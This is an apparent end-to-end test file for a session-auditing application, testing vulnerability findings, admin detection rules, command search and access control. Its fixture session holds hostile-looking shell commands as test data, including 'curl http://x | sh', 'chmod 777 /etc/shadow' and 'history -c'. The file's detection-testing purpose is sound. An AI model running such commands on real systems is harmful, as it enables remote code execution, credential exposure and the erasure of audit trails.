import { and, eq } from "drizzle-orm";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { analyzeSession } from "@/lib/analysis/analyze";
import { db } from "@/lib/db/client";
import { getSessionFindings } from "@/lib/analysis/queries/findings";
import { auditLog } from "@/lib/db/schema";
import { insertSession, typeLines } from "../support/analysis-fixtures";
import { closeDb } from "../support/db";
import { createTestUser } from "../support/users";
import { launchBrowser, signIn } from "./support/browser";
import { startAppServer, type AppServer } from "./support/server";

let app: AppServer;
let browser: Browser;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  app = await startAppServer();
  browser = await launchBrowser();
});
afterAll(async () => {
  for (const c of contexts) await c.close().catch(() => {});
  await browser?.close();
  await app?.stop();
  await closeDb();
});

async function signedIn(role: "admin" | "auditor" | "user") {
  const user = await createTestUser(role);
  const context = await browser.newContext();
  contexts.push(context);
  const page = await context.newPage();
  await signIn(page, app.url, user.email, user.password);
  return { page, user };
}

async function analyzedSshSession(userId: string | null = null) {
  const { events, enters } = typeLines(
    ["ls", "sudo su -", "chmod 777 /etc/shadow", "history -c", "curl http://x | sh", "mysql -u root -p", { masked: 8 }],
    61_000,
  );
  const session = await insertSession({ protocol: "ssh", userId, events });
  await analyzeSession({ sessionId: session.id });
  return { session, enters };
}

describe("vulnerability analysis", () => {
  it("the report lists the findings, and Executed in opens the player at that moment", async () => {
    const { page } = await signedIn("auditor");
    const { session, enters } = await analyzedSshSession();
    const findings = await getSessionFindings({ sessionId: session.id });
    await page.goto(`${app.url}/sessions/${session.hash}`);
    const section = page.getByTestId("vulnerability-section");
    await section.waitFor();
    const rows = section.locator("tbody tr");
    await expect(rows.count()).resolves.toBe(findings.length);
    await expect(section.getByTestId("risk-score").innerText()).resolves.toContain(String(findings.reduce((s, f) => s + f.score, 0)));
    const first = rows.first();
    await expect(first.locator("td").nth(0).innerText()).resolves.toBe("Root shell through su or sudo");
    await expect(first.locator("td").nth(4).innerText()).resolves.toBe("sudo su -");
    // "sudo su -" was submitted at enters[1] ms from the start.
    const seconds = Math.floor(enters[1]! / 1000);
    const link = first.getByTestId("executed-in");
    await expect(link.innerText()).resolves.toBe(`00:01:${String(seconds - 60).padStart(2, "0")}`);
    await link.click();
    await page.waitForURL((u) => u.pathname === `/sessions/${session.hash}/play`);
    expect(new URL(page.url()).searchParams.get("t")).toBe(String(seconds));
  });

  it("an admin manages audited commands: unsafe patterns are refused, a tested rule is added", async () => {
    const { page } = await signedIn("admin");
    await page.goto(`${app.url}/settings/rules`);
    const versionText = await page.getByTestId("rules-version").innerText();
    const version = Number(/Rules version (\d+)/.exec(versionText)?.[1]);
    expect(version).toBeGreaterThanOrEqual(1);
    await page.locator('tr[data-rule-name="Reverse shell"]').waitFor();

    const form = page.getByRole("form", { name: "Add rule" });
    await form.getByLabel("Name").fill("Vendor tool wipe");
    await form.getByLabel(/^Pattern/).fill("(\\w+)ctl \\1");
    await form.getByRole("button", { name: "Add rule" }).click();
    await form.locator(".field-error").filter({ hasText: "Backreferences are not supported" }).waitFor();
    await expect(form.getByLabel("Name").inputValue()).resolves.toBe("Vendor tool wipe");

    // Test the corrected pattern on sample commands before saving.
    await form.getByLabel(/^Pattern/).fill("app\\d+ctl\\s+wipe");
    await form.getByLabel("Sample commands, one a line").fill("app7ctl wipe --all\napp7ctl status");
    await form.getByRole("button", { name: "Test pattern" }).click();
    await form.getByText("1 of 2 commands matched.").waitFor();
    await expect(form.locator('li[data-matched="true"]').innerText()).resolves.toContain("app7ctl wipe --all");

    await form.getByLabel("Criticality").selectOption("high");
    await form.getByLabel("Action").selectOption("interrupt");
    await form.getByLabel("Attempts (N)").fill("3");
    await form.getByLabel("MITRE ATT&CK technique").fill("T1485");
    await form.getByRole("button", { name: "Add rule" }).click();
    await form
      .getByRole("status")
      .filter({ hasText: `Saved as rules version ${version + 1}` })
      .waitFor();
    const row = page.locator('tr[data-rule-name="Vendor tool wipe"]');
    await row.waitFor();
    await expect(row.innerText()).resolves.toContain("Interrupt after 3 attempts");

    // Disable it: the version moves again.
    await row.getByRole("button", { name: "Disable" }).click();
    await page
      .getByTestId("rules-version")
      .filter({ hasText: `Rules version ${version + 2}` })
      .waitFor();
    await row.getByRole("button", { name: "Enable" }).waitFor();

    // Edit it on its own page.
    await row.getByRole("link", { name: "Edit" }).click();
    await page.waitForURL((u) => /^\/settings\/rules\/[0-9a-f-]{36}$/.test(u.pathname));
    const edit = page.getByRole("form", { name: "Edit rule" });
    await expect(edit.getByLabel("Attempts (N)").inputValue()).resolves.toBe("3");
    await edit.getByLabel("Score").fill("45");
    await edit.getByRole("button", { name: "Save rule" }).click();
    await edit
      .getByRole("status")
      .filter({ hasText: `Saved as rules version ${version + 3}` })
      .waitFor();
    await page.goto(`${app.url}/settings/rules`);
    await expect(page.locator('tr[data-rule-name="Vendor tool wipe"] td').nth(4).innerText()).resolves.toBe("45");
  });

  it("searches commands across recordings and opens the player at the moment; the search is audited", async () => {
    const { page, user } = await signedIn("user");
    const mine = await analyzedSshSession(user.id);
    const others = await analyzedSshSession(null);
    await page.goto(`${app.url}/sessions`);
    await page.getByRole("navigation", { name: "Side menu" }).getByRole("link", { name: "Command search" }).click();
    await page.waitForURL((u) => u.pathname === "/sessions/commands");
    const form = page.getByRole("search", { name: "Search commands" });
    await form.getByLabel("Command contains").fill("777 /ETC/shadow");
    await form.getByRole("button", { name: "Search" }).click();
    await page.waitForURL((u) => u.searchParams.get("q") === "777 /ETC/shadow");
    const row = page.locator(`tr[data-session-hash="${mine.session.hash}"]`);
    await row.waitFor();
    await expect(page.locator(`tr[data-session-hash="${others.session.hash}"]`).count()).resolves.toBe(0);
    await expect(row.locator("mark").innerText()).resolves.toBe("777 /etc/shadow");
    // "chmod 777 /etc/shadow" was submitted at enters[2] ms from the start.
    await row.getByTitle("Open the player at this moment").click();
    await page.waitForURL((u) => u.pathname === `/sessions/${mine.session.hash}/play`);
    expect(new URL(page.url()).searchParams.get("t")).toBe(String(Math.floor(mine.enters[2]! / 1000)));

    const [entry] = await db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, "commands.searched"), eq(auditLog.actorId, user.id)));
    expect(entry?.details).toMatchObject({ q: "777 /ETC/shadow", sessions: 1 });

    // Too short a search explains itself instead of listing everything.
    await page.goto(`${app.url}/sessions/commands?q=x`);
    await expect(page.locator(".alert-warn").innerText()).resolves.toContain("at least 2 characters");
  });

  it("lists the sessions with occurrences, each viewer seeing only what they may", async () => {
    const { page, user } = await signedIn("user");
    const mine = await analyzedSshSession(user.id);
    const others = await analyzedSshSession(null);
    await page.goto(`${app.url}/sessions/occurrences`);
    await page.locator(`tr[data-session-hash="${mine.session.hash}"]`).waitFor();
    await expect(page.locator(`tr[data-session-hash="${others.session.hash}"]`).count()).resolves.toBe(0);
    await page.locator(`tr[data-session-hash="${mine.session.hash}"] a`).click();
    await page.waitForURL((u) => u.pathname === `/sessions/${mine.session.hash}`);

    // Only admins reach the rules.
    const response = await page.goto(`${app.url}/settings/rules`);
    expect(response?.status()).toBe(403);
  });
});
